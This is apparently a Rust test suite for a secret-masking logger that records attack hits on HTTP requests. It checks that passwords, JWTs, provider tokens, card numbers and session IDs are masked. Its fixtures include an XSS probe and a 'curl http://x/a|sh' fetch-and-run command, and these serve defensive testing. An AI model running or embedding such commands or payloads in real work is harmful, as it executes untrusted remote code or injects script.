                "/auth?x=<script>alert(1)</script>",
                &[(name, target)],
                b"",
            ));
            let v = header(&mr, name);
            if v.contains("Hunter2Secret") || v.contains("TokenValue") {
                leaks.push(format!("{name}: {v}"));
            }
        }
        assert!(leaks.is_empty(), "secrets in clear: {leaks:#?}");
    }

    /// Review 16. Defect: secrets sent as name/value pairs are stored in
    /// clear: the masked name is the *value* of a `name`/`key` member (or
    /// element) and the secret is its sibling `value`. Kubernetes' API
    /// (`kubectl apply` of a Deployment: `"env":[{"name":"DB_PASSWORD",
    /// "value":"…"}]`), AWS ECS task definitions (`environment`), Azure ARM
    /// parameters, jQuery's `JSON.stringify($(form).serializeArray())`
    /// (`[{"name":"password","value":"…"}]`) and XML-RPC structs
    /// (`<member><name>password</name><value>…</value></member>`, Bugzilla's
    /// `User.login`, Odoo; the module's own doc names XML-RPC) all send them
    /// this way; an attack hit anywhere in the request (a `curl … | sh` in a
    /// container command) stores the excerpt with the password.
    /// Severity: Medium.
    #[test]
    fn review16_name_value_pair_secrets_are_masked() {
        let m = masker();
        let cases: [(&str, &[u8]); 3] = [
            (
                "application/json",
                br#"{"spec":{"containers":[{"name":"app","command":["sh","-c","curl http://x/a|sh"],"env":[{"name":"DB_PASSWORD","value":"K8sDbPassw0rd!"}]}]}}"#,
            ),
            (
                "application/json",
                br#"[{"name":"username","value":"bob"},{"name":"password","value":"JqSerial1zePw"}]"#,
            ),
            (
                "text/xml",
                b"<?xml version=\"1.0\"?><methodCall><methodName>User.login</methodName><params><param><value><struct><member><name>login</name><value><string>bob</string></value></member><member><name>password</name><value><string>XmlRpcPassw0rd</string></value></member></struct></value></param></params></methodCall>",
            ),
        ];
        let mut leaks = Vec::new();
        for (ct, body) in cases {
            let mr = m.mask_request(&req("/api", &[("Content-Type", ct)], body));
            let e = s(&mr.body_excerpt);
            if ["K8sDbPassw0rd", "JqSerial1zePw", "XmlRpcPassw0rd"]
                .iter()
                .any(|x| e.contains(x))
            {
                leaks.push(e);
            }
        }
        assert!(leaks.is_empty(), "secrets in clear: {leaks:#?}");
    }

    /// Review round 17. Defect: a browser cannot set `Authorization` on a
    /// WebSocket, so clients put the bearer token in `Sec-WebSocket-Protocol`.
    /// The Kubernetes API server reads `base64url.bearer.authorization.k8s.io.
    /// <token>` there (the dashboard, Lens, Rancher's shell, `kubectl exec`
    /// through a browser), and many apps take `access_token, <JWT>` (the
    /// `new WebSocket(url, ["access_token", token])` idiom). The header is
    /// stored as sent in every attack record of such a request.
    /// Severity: High (a bearer credential in clear by default).
    #[test]
    fn review17_websocket_subprotocol_bearer_tokens_are_masked() {
        let m = masker();
        let k8s = "base64url.bearer.authorization.k8s.io.ZXlKaGJHY2lPaUpTVXpJMU5pSXNJbXRwWkNJNklrc3hJbjAuU0VDUkVU";
        let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IifQ.U2VjcmV0U2lnbmF0dXJlWFla";
        for value in [
            format!("{k8s}, v5.channel.k8s.io"),
            format!("access_token, {jwt}"),
        ] {
            let r = req(
                "/api/v1/namespaces/default/pods/p/exec?command=sh",
                &[
                    ("Upgrade", "websocket"),
                    ("Sec-WebSocket-Protocol", value.as_str()),
                ],
                b"",
            );
            let got = header(&m.mask_request(&r), "Sec-WebSocket-Protocol");
            assert!(
                !got.contains("ZXlKaGJHY2lPaUpTVXpJMU5pSXNJbXRwWkNJNklrc3hJbjAuU0VDUkVU")
                    && !got.contains("U2VjcmV0U2lnbmF0dXJlWFla"),
                "bearer token in clear: {got}"
            );
            // The protocol names stay readable.
            assert!(
                got.contains("v5.channel.k8s.io") || got.contains("access_token"),
                "{got}"
            );
        }
    }

    /// Review round 17. Defect: a JSON Web Token is masked only under a
    /// masked name. One in the path (`/auth/magic-link/<JWT>`, `/verify-email/
    /// <JWT>`, `/invite/<JWT>`: sign-in links that log the visitor in), in a
    /// header no pattern names (AWS ALB's `X-Amzn-Oidc-Data`, the signed
    /// claims its back ends authenticate users by) or in a body field with an
    /// ordinary name (`"link": "https://…/login/<JWT>"`) is stored in clear,
    /// in `uri`, `request_line`, `headers` and `body_excerpt`. A JWT is a
    /// bearer credential whatever it is called, and its shape (`eyJ` base64url
    /// `.` base64url `.` signature) is unmistakable. Severity: Medium.
    #[test]
    fn review17_a_jwt_is_masked_wherever_it_is() {
        let m = masker();
        let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJib2IiLCJleHAiOjE5MDAwMDAwMDB9.q2bX4tSekrEtSiGnAtUrEsIg_-0";
        let sig = "q2bX4tSekrEtSiGnAtUrEsIg_-0";
        let uri = format!("/auth/magic-link/{jwt}?next=/home");
        let body = format!(r#"{{"link":"https://app.example/login/{jwt}","note":"x"}}"#);
        let r = req(
            &uri,
            &[
                ("Content-Type", "application/json"),
                ("X-Amzn-Oidc-Data", jwt),
            ],
            body.as_bytes(),
        );
        let mr = m.mask_request(&r);
        assert!(
            !s(&mr.uri).contains(sig),
            "JWT in the target: {}",
            s(&mr.uri)
        );
        assert!(
            !header(&mr, "X-Amzn-Oidc-Data").contains(sig),
            "JWT in a header: {}",
            header(&mr, "X-Amzn-Oidc-Data")
        );
        assert!(
            !s(&mr.body_excerpt).contains(sig),
            "JWT in the excerpt: {}",
            s(&mr.body_excerpt)
        );
        assert!(
            !s(&m.mask_uri(uri.as_bytes())).contains(sig),
            "JWT in a request record's uri"
        );
    }

    /// Review round 17. Defect: the name/value pair lookahead of round 16
    /// knows `"name"` and `"key"` only. Keycloak's CredentialRepresentation,
    /// what its admin API takes to set a password (`PUT /admin/realms/R/users/
    /// ID/reset-password`, and in `credentials` of a new user), says which
    /// secret it is in `"type"`: `{"type":"password","value":"…",
    /// "temporary":false}`; form builders and settings APIs name it
    /// `"field"`. The password is stored in clear in `body_excerpt`.
    /// Severity: Medium.
    #[test]
    fn review17_type_and_field_named_pairs_are_masked() {
        let m = masker();
        let cases: [&[u8]; 2] = [
            br#"{"type":"password","value":"KeycloakPassw0rd!","temporary":false}"#,
            br#"{"fields":[{"field":"email","value":"a@b.c"},{"field":"password","value":"FormBuilderPw9"}]}"#,
        ];
        for body in cases {
            let mr = m.mask_request(&req(
                "/admin/realms/r/users/u/reset-password",
                &[("Content-Type", "application/json")],
                body,
            ));
            let e = s(&mr.body_excerpt);
            assert!(
                !e.contains("KeycloakPassw0rd") && !e.contains("FormBuilderPw9"),
                "password in clear: {e}"
            );
        }
    }

    /// A URL in any header has its secret-named query parameters masked,
    /// as `Referer` has (round 17's lead: `Destination`, callback URLs).
    #[test]
    fn a_url_in_any_header_has_its_query_masked() {
        let m = masker();
        for h in ["Destination", "X-Callback-Url", "X-Forwarded-Url"] {
            let mr = m.mask_request(&req(
                "/",
                &[(h, "https://hooks.example/cb?id=7&token=CallbackSecret42")],
                b"",
            ));
            let got = header(&mr, h);
            assert!(!got.contains("CallbackSecret42"), "{h}: {got}");
            assert!(got.contains("id=7"), "{h}: {got}");
        }
    }

    /// `auth_key` and its spellings are secret names.
    #[test]
    fn auth_keys_are_masked_names() {
        let m = masker();
        for name in ["auth_key", "authkey", "X-Auth-Key", "user.authKey"] {
            assert!(m.param_masked(name.as_bytes()), "{name}");
        }
    }

    /// Review round 17. Defect: `assertion` is masked only as the whole
    /// name, so OAuth's `client_assertion` (RFC 7523 `private_key_jwt`
    /// client authentication at the token endpoint: Azure AD, Okta, Google
    /// service accounts), a signed JWT that authenticates the client, is
    /// stored in clear in the excerpt of a form body. Severity: Low (with
    /// the JWT shape masked anywhere it is caught too).
    #[test]
    fn review17_client_assertion_is_masked() {
        let m = masker();
        assert!(m.param_masked(b"client_assertion"));
        let mr = m.mask_request(&req(
            "/oauth2/v2.0/token",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"grant_type=client_credentials&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion=ClientAssertionOpaque123",
        ));
        assert!(
            !s(&mr.body_excerpt).contains("ClientAssertionOpaque123"),
            "{}",
            s(&mr.body_excerpt)
        );
    }

    /// Review round 19. Defect: the default names miss common forms of a
    /// password and of the card security code, so they are stored in clear
    /// in `uri`, `body_excerpt` and `matched`. WordPress posts a new
    /// password as `pass1` and `pass2` (wp-login.php `action=resetpass`,
    /// wp-admin/user-new.php, profile.php): `pass` matches only exactly.
    /// `cvv*` and `cvc*` are anchored at the start, so `card_cvv`, `cc_cvv`,
    /// `cardCvc`, `payment_cvc` (normalised `cardcvv`, `cccvv`, `cardcvc`)
    /// are clear: a CVV must never be stored (PCI DSS 3.3.1.2), and at 3-4
    /// digits it is too short for the sweep or the card-number shape.
    /// Severity: High (a secret stored in clear).
    #[test]
    fn review19c_wordpress_passwords_and_prefixed_cvv_are_masked() {
        let m = masker();
        for n in [
            "pass1",
            "pass2",
            "card_cvv",
            "cc_cvv",
            "cardCvc",
            "payment_cvc",
            "cvv2",
        ] {
            assert!(m.param_masked(n.as_bytes()), "{n}");
        }
        let r = req(
            "/wp-login.php?action=resetpass",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"pass1=Hunter2Secret&pass2=Hunter2Secret&card_cvv=737",
        );
        let body = s(&m.mask_request(&r).body_excerpt);
        assert!(!body.contains("Hunter2Secret"), "{body}");
        assert!(!body.contains("737"), "{body}");
    }

    /// Review round 19. Defect: a multipart part whose content is JSON
    /// (`Content-Type: application/json`: Spring's `@RequestPart`, an
    /// upload with its metadata, GraphQL multipart requests' `operations`)
    /// is masked only by the part's own name; the members inside it are
    /// copied as sent, so `{"password":"…"}` in a part named `data` reaches
    /// `body_excerpt` in clear, and is not remembered for the sweep of
    /// `matched`. The same JSON as the whole body is masked by key. Spring
    /// (`RequestPartMethodArgumentResolver`) and Go/Node apps decode that
    /// part as JSON. Severity: High (a secret stored in clear).
    #[test]
    fn review19c_json_inside_a_multipart_part_is_masked_by_key() {
        let m = masker();
        let r = req(
            "/signup",
            &[("Content-Type", "multipart/form-data; boundary=XX")],
            b"--XX\r\nContent-Disposition: form-data; name=\"data\"\r\n\
              Content-Type: application/json\r\n\r\n\
              {\"user\":\"amy\",\"password\":\"Hunter2Secret\"}\r\n\
              --XX\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\n\r\n\
              PNG\r\n--XX--\r\n",
        );
        let mr = m.mask_request(&r);
        let body = s(&mr.body_excerpt);
        assert!(!body.contains("Hunter2Secret"), "{body}");
        assert!(body.contains(&t(&m, "Hunter2Secret")), "{body}");
        assert!(body.contains("\"user\":\"amy\""), "{body}");
        // Quoted by a hit elsewhere, it is masked too.
        let matched = m.mask_matched(&mr, "body", b"Hunter2Secret", 256);
        assert!(!s(&matched).contains("Hunter2Secret"));
    }

    /// A form field whose value is JSON: Slack posts interactive actions as
    /// `payload=<urlencoded JSON>` whose `"token"` is the app's verification
    /// token, and a GraphQL GET carries `variables=<urlencoded JSON>` (Apollo
    /// and graphql-express read both; the app `JSON.parse`s the field).
    /// Specula masks a form or query value by its name only, so the secret
    /// member inside is stored in clear in `uri` / `body_excerpt`.
    /// Severity: High (a secret stored in clear).
    #[test]
    fn review21c_json_inside_a_form_field_is_masked_by_key() {
        let m = masker();
        let r = req(
            "/slack/actions",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b"payload=%7B%22type%22%3A%22block_actions%22%2C%22token%22%3A%22Xy7Kp9Qw2Zr4Tn6Vb8Mc%22%2C%22team%22%3A%7B%22id%22%3A%22T1%22%7D%7D",
        );
        let mr = m.mask_request(&r);
        let body = s(&mr.body_excerpt);
        assert!(!body.contains("Xy7Kp9Qw2Zr4Tn6Vb8Mc"), "{body}");
        assert!(body.contains("block_actions"), "{body}");
        // Quoted by a hit on the raw body, it is masked too.
        let matched = m.mask_matched(&mr, "body", b"Xy7Kp9Qw2Zr4Tn6Vb8Mc", 256);
        assert!(!s(&matched).contains("Xy7Kp9Qw2Zr4Tn6Vb8Mc"));

        let uri =
            "/graphql?query=mutation%28%24p%3AString%29%7Blogin%28password%3A%24p%29%7Bid%7D%7D\
                   &variables=%7B%22password%22%3A%22Hunter2Secret%22%7D";
        let mr = m.mask_request(&req(uri, &[], b""));
        assert!(!s(&mr.uri).contains("Hunter2Secret"), "{}", s(&mr.uri));
        assert!(!s(&m.mask_uri(uri.as_bytes())).contains("Hunter2Secret"));
        // Unencoded JSON in a query (curl, many clients) too.
        let mr = m.mask_request(&req(
            "/graphql?variables={\"password\":\"Hunter2Secret\"}",
            &[],
            b"",
        ));
        assert!(!s(&mr.uri).contains("Hunter2Secret"), "{}", s(&mr.uri));
    }

    /// Tokens whose providers give them a fixed prefix (GitHub `ghp_`,
    /// `github_pat_`; Slack `xoxb-`; Stripe `sk_live_`; GitLab `glpat-`) are
    /// bearer credentials wherever they are: a JSON-RPC `params` array
    /// (positional, no name), a chat message field, a webhook path. GitHub's
    /// and GitLab's secret scanners key on exactly these prefixes. Specula
    /// masks by name and by JWT/card shape only, so these stay in clear.
    /// Severity: High (a secret stored in clear).
    #[test]
    fn review21c_provider_token_shapes_are_masked_anywhere() {
        let m = masker();
        let gh = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
        let slack = "xoxb-2634958402-2634958402-aBcDeFgHiJkLmNoPqRsTuVwX";
        let stripe = "sk_live_51H8dKpLz0AbCdEfGhIjKlMn";
        let glpat = "glpat-Ab3dEf6hIj9kLmN0pQrS";
        let body = format!(
            "{{\"jsonrpc\":\"2.0\",\"method\":\"connect\",\"params\":[\"octocat\",\"{gh}\"],\"id\":1}}"
        );
        let mr = m.mask_request(&req(
            &format!("/hooks/{stripe}/run"),
            &[("Content-Type", "application/json"), ("X-Note", glpat)],
            body.as_bytes(),
        ));
        let body = s(&mr.body_excerpt);
        assert!(!body.contains(gh), "{body}");
        assert!(body.contains("octocat"), "{body}");
        assert!(!s(&mr.uri).contains(stripe), "{}", s(&mr.uri));
        assert!(!header(&mr, "x-note").contains(glpat));
        let form = format!("channel=C1&text=use+{slack}+for+the+bot");
        let mr = m.mask_request(&req(
            "/chat",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            form.as_bytes(),
        ));
        assert!(
            !s(&mr.body_excerpt).contains(slack),
            "{}",
            s(&mr.body_excerpt)
        );
        // A hit quoting one in `matched`.
        let matched = m.mask_matched(&mr, "body:text", slack.as_bytes(), 256);
        assert!(!s(&matched).contains(slack));
        // Ordinary words with such letters are kept.
        let mr = m.mask_request(&req("/a?q=sk_live&tag=xoxb", &[], b""));
        assert_eq!(s(&mr.uri), "/a?q=sk_live&tag=xoxb");
    }

    /// Every prefix of the list is found by the one-pass search, two tokens
    /// side by side are both masked, and a prefix inside a word is not one.
    #[test]
    fn every_provider_prefix_is_masked_in_one_pass() {
        let m = masker();
        let body16 = "Ab3dEf6hIj9kLmN0";
        for prefix in PROVIDER_TOKEN_PREFIXES {
            let token = format!("{}{body16}", s(prefix));
            let text = format!("a {token},{token} b x{token}");
            let out = s(&m.provider_tokens(text.clone().into_bytes()));
            assert_eq!(out.matches(&token).count(), 1, "{text} -> {out}");
            assert!(out.starts_with("a [masked:"), "{out}");
            assert!(out.ends_with(&format!(" b x{token}")), "{out}");
        }
        let short = "ghp_Ab3dEf6hIj9kLmN";
        assert_eq!(s(&m.provider_tokens(short.into())), short);
    }

    /// OAuth PKCE (RFC 7636): the token request carries `code_verifier`,
    /// the secret that, with the authorization code, redeems tokens (RFC
    /// 7636 §1: it is what a stolen code lacks). Specula does not mask the
    /// name. Severity: Medium (a short-lived secret stored in clear).
    #[test]
    fn review21c_pkce_code_verifier_is_masked() {
        let m = masker();
        let verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
        let form = format!(
            "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&code_verifier={verifier}"
        );
        let mr = m.mask_request(&req(
            "/oauth/token",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            form.as_bytes(),
        ));
        assert!(
            !s(&mr.body_excerpt).contains(verifier),
            "{}",
            s(&mr.body_excerpt)
        );
    }

    /// An OAuth 2.0 authorization code is a credential where the protocol's
    /// own names say it is one: in the redirect (`?code=…&state=…`) and the
    /// token request (`grant_type=authorization_code&code=…`). Elsewhere
    /// `code` (a country, a coupon, a snippet) stays visible.
    #[test]
    fn oauth_authorization_codes_are_masked() {
        let m = masker();
        let code = "SplxlOBeZQQYbYS6WxSbIA";
        let u = s(&m.mask_uri(format!("/cb?code={code}&state=xyz").as_bytes()));
        assert_eq!(u, format!("/cb?code={}&state=xyz", t(&m, code)));
        let u = s(&m.mask_uri(format!("/cb?state=xyz;%63ode={code}").as_bytes()));
        assert_eq!(u, format!("/cb?state=xyz;%63ode={}", t(&m, code)));
        let form =
            format!("grant_type=authorization_code&code={code}&redirect_uri=https%3A%2F%2Fc");
        let mr = m.mask_request(&req(
            "/oauth/token",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            form.as_bytes(),
        ));
        assert!(
            !s(&mr.body_excerpt).contains(code),
            "{}",
            s(&mr.body_excerpt)
        );
        // A hit quoting the code elsewhere is masked by the sweep.
        let r = req(&format!("/cb?code={code}&state=xyz"), &[], b"");
        let mr = m.mask_request(&r);
        let matched = m.mask_matched(&mr, "uri", format!("/cb?code={code}").as_bytes(), 256);
        assert!(!s(&matched).contains(code), "{}", s(&matched));
        // Not an OAuth exchange: kept.
        assert_eq!(
            s(&m.mask_uri(b"/shop?code=SUMMER24&q=1")),
            "/shop?code=SUMMER24&q=1"
        );
        let keep = masker_with(|c| c.keep = vec!["code".into()]);
        assert_eq!(
            s(&keep.mask_uri(b"/cb?code=abc&state=x")),
            "/cb?code=abc&state=x"
        );
    }

    /// A login form posted as RFC 1867 writes its type (RFC 1867 §6's
    /// own example): `multipart/form-data, boundary=AaB03x`, with a comma.
    /// PHP reads it (`sapi_read_post_data` ends the type at `,`;
    /// `rfc1867.c` finds the first `boundary`), so `$_POST['password']` is
    /// the part's content, and detection splits it there too
    /// (`php_boundary`). Masking found no `; boundary=` parameter and
    /// scanned the body as a form: the password part was stored in clear
    /// in `body_excerpt`. Severity: High (a secret stored in clear).
    #[test]
    fn review33c_rfc1867_comma_boundary_is_masked() {
        let m = masker();
        let body = b"--AaB03x\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nbob\r\n--AaB03x\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nhunter2secret\r\n--AaB03x--\r\n";
        for ct in [
            "multipart/form-data, boundary=AaB03x",
            "multipart/form-data,boundary=AaB03x",
        ] {
            let mr = m.mask_request(&req("/login.php", &[("Content-Type", ct)], body));
            assert!(
                !s(&mr.body_excerpt).contains("hunter2secret"),
                "{ct}: {}",
                s(&mr.body_excerpt)
            );
        }
    }

    /// A card number next to another number with one space between (an
    /// order note `qty 2 4111 1111 1111 1111`, a chat message `card 4111
    /// 1111 1111 1111 123` with the CVV after it): the digit run with its
    /// single separators was read as one number of 17 or more digits, which
    /// has no card's length or prefix, so the card inside it was stored in
    /// clear wherever masking by shape is the only defence (a field not
    /// named like a card). Severity: High (a card number stored in clear).
    #[test]
    fn review33c_a_card_beside_another_number_is_masked() {
        let m = masker();
        for text in [
            "note=card 4111 1111 1111 1111 123 thanks",
            "note=qty 2 4111 1111 1111 1111",
            "note=4111-1111-1111-1111-12-25",
            "note=1 5500+0000+0000+0004+999",
        ] {
            let mr = m.mask_request(&req(
                "/order",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                text.as_bytes(),
            ));
            let out = s(&mr.body_excerpt);
            let digits: String = out.chars().filter(char::is_ascii_digit).collect();
            assert!(
                !digits.contains("4111111111111111") && !digits.contains("5500000000000004"),
                "{text}: {out}"
            );
        }
        // Lone numbers are not cut into cards.
        let mr = m.mask_request(&req("/", &[], b"id 1316355691345 ok 12 34"));
        assert_eq!(s(&mr.body_excerpt), "id 1316355691345 ok 12 34");
    }

    /// A GraphQL request whose `variables` is a JSON string holding the
    /// object (`"variables":"{\"password\":\"…\"}"`): express-graphql
    /// (`getGraphQLParams`: `if (typeof variables === 'string') variables =
    /// JSON.parse(variables)`) and graphql-java-kickstart's servlet read it
    /// as the object, so the mutation's password is that member. Masking
    /// saw one string under an unmasked key and kept it: the password was
    /// stored in clear in `body_excerpt`. Severity: High (a secret stored
    /// in clear).
    #[test]
    fn review33c_json_inside_a_json_string_is_masked_by_key() {
        let m = masker();
        let body = br#"{"query":"mutation L($u: String!, $p: String!) { login(user: $u, password: $p) { token } }","variables":"{\"u\":\"bob\",\"password\":\"hunter2secret\"}"}"#;
        let mr = m.mask_request(&req(
            "/graphql",
            &[("Content-Type", "application/json")],
            body,
        ));
        let out = s(&mr.body_excerpt);
        assert!(!out.contains("hunter2secret"), "{out}");
        assert!(out.contains(r#"\"u\":\"bob\""#), "the rest kept: {out}");
    }

    /// Specula's own rules `session-fixation-framework-id` (target `uri`)
    /// and `session-fixation-id-in-parameter` name `CAKEPHP`, `symfony`,
    /// `koa.sess` / `koa:sess`, `express:sess`, `CFID` and `CFSID` as the
    /// session cookies of CakePHP, Symfony, Koa, Express and ColdFusion
    /// sent as URL parameters: the frameworks read the session id from
    /// there (a fixation link plants it, and the victim then logs in with
    /// it). None of these names matched a masked pattern, so the id was
    /// stored in clear in `uri`, `request_line` and in the rule's own
    /// `matched` (`?CAKEPHP=<id>` at location `uri`), the very hit that says
    /// it is a session id. Severity: High (a secret stored in clear).
    #[test]
    fn review34c_framework_session_ids_named_by_the_rules_are_masked() {
        let m = masker();
        for (name, id) in [
            ("CAKEPHP", "a1b2c3d4e5f6g7h8i9"),
            ("symfony", "q9r8s7t6u5v4w3x2"),
            ("koa.sess", "eyJhYmMiOjF9xyz"),
            ("koa:sess", "eyJhYmMiOjF9xyz"),
            ("koa%3Asess", "eyJhYmMiOjF9xyz"),
            ("express:sess", "eyJwYXNzcG9ydCI6e319"),
            ("CFSID", "cf5e55i0nabc123"),
            ("CFID", "12345678"),
        ] {
            let target = format!("/cart?x=1&{name}={id}");
            let uri = s(&m.mask_uri(target.as_bytes()));
            assert!(!uri.contains(id), "{name}: {uri}");
            let mr = m.mask_request(&req(&target, &[], b""));
            assert!(!s(&mr.uri).contains(id), "{name}: {}", s(&mr.uri));
            let quote = format!("&{name}={id}");
            let matched = s(&m.mask_matched(&mr, "uri", quote.as_bytes(), 256));
            assert!(!matched.contains(id), "{name}: {matched}");
        }
        // Words that merely hold those letters stay visible.
        assert_eq!(m.mask_uri(b"/?process=1&access=2"), b"/?process=1&access=2");
    }

    /// Apache modules read the auth scheme as the first word ending at any
    /// white space: mod_auth_gssapi and mod_auth_kerb take it with
    /// `ap_getword_white` (`apr_isspace`: space, tab, VT, FF), then the
    /// credential with `ap_getword_white` again (so `Negotiate<TAB><token>
    /// x` authenticates with `<token>`; GssapiBasicAuth decodes `Basic<TAB>
    /// <base64>` alike), and mod_auth_digest's `get_digest_rec` reads
    /// `Digest<TAB>response="…", username=…` in any order. Specula kept as
    /// "the scheme" everything before the first space: the Kerberos token,
    /// the Basic credentials or the Digest `response=` stayed in clear in
    /// `headers`. Severity: High (a credential stored in clear).
    /// A `#` in a request target hides nothing: the server reads what
    /// follows as query parameters (`?a=1#&password=…`). A password with
    /// `;` and `=` in an absolute-form target's userinfo is masked whole
    /// (round 34c's two suspicions).
    #[test]
    fn a_hash_in_the_target_and_a_userinfo_with_semicolons_are_masked() {
        let m = masker();
        for target in [
            "/login?a=1#&password=hunter2secret",
            "/login?a=1&x=#&password=hunter2secret",
            "http://bob:hunter2secret;token=x@shop.example/",
            "http://bob:hunter2;secret=x@shop.example/?q=1",
        ] {
            let mr = m.mask_request(&req(target, &[], b""));
            let uri = s(&mr.uri);
            assert!(!uri.contains("hunter2"), "{target}: {uri}");
            assert!(!uri.contains("secret"), "{target}: {uri}");
        }
        assert_eq!(s(&m.mask_uri(b"/a?b=1#c")), "/a?b=1#c");
    }

    /// ASP.NET's cookieless session ids and forms tickets in the path are
    /// masked (round 34c's suspicion); other parenthesised segments stay.
    #[test]
    fn aspnet_cookieless_ids_in_the_path_are_masked() {
        let m = masker();
        for (target, ids) in [
            (
                "/(S(lit3py55t21z5v55vlm25s55))/default.aspx",
                &["lit3py55t21z5v55vlm25s55"][..],
            ),
            (
                "/app/(A(anon4711xyzw)S(sess0815abcd)F(tick3tAAAA9))/page.aspx?x=1",
                &["anon4711xyzw", "sess0815abcd", "tick3tAAAA9"][..],
            ),
        ] {
            let uri = s(&m.mask_uri(target.as_bytes()));
            for id in ids {
                assert!(!uri.contains(id), "{target}: {uri}");
            }
            assert!(
                uri.contains("(S([masked:") || uri.contains("(A([masked:"),
                "{uri}"
            );
        }
        for keep in ["/wiki/Foo_(bar)", "/(x)/", "/(S())/", "/a/(S(b)c)/"] {
            assert_eq!(s(&m.mask_uri(keep.as_bytes())), keep);
        }
    }

    #[test]
    fn review34c_auth_scheme_ends_at_any_white_space() {
        let m = masker();
        for (value, secret) in [
            (
                "Negotiate\tYIIGhgYGKwYBBQUCoIIGejCCBnag x",
                "YIIGhgYGKwYBBQUCoIIGejCCBnag",
            ),
            ("Basic\tdXNlcjpodW50ZXIy x", "dXNlcjpodW50ZXIy"),
            ("Basic\x0bdXNlcjpodW50ZXIy x", "dXNlcjpodW50ZXIy"),
            ("Basic\x0cdXNlcjpodW50ZXIy x", "dXNlcjpodW50ZXIy"),
            (
                "Digest\tresponse=\"6629fae49393a05397450978507c4ef1\", username=\"bob\"",
                "6629fae49393a05397450978507c4ef1",
            ),
        ] {
            for name in ["Authorization", "Proxy-Authorization"] {
                let out = s(&m.mask_header(name.as_bytes(), value.as_bytes()));
                assert!(!out.contains(secret), "{name}: {value:?} -> {out:?}");
                let mr = m.mask_request(&req("/", &[(name, value)], b""));
                let out = header(&mr, name);
                assert!(!out.contains(secret), "{name}: {value:?} -> {out:?}");
            }
        }
        // The scheme is still kept when it is one.
        let out = s(&m.mask_header(b"Authorization", b"Negotiate\tYIIGhgYGKwYBBQUC"));
        assert!(out.starts_with("Negotiate\t[masked:"), "{out:?}");
        assert_eq!(
            s(&m.mask_header(b"Authorization", b"Bearer abc.def")),
            format!("Bearer {}", t(&m, "abc.def"))
        );
    }
}
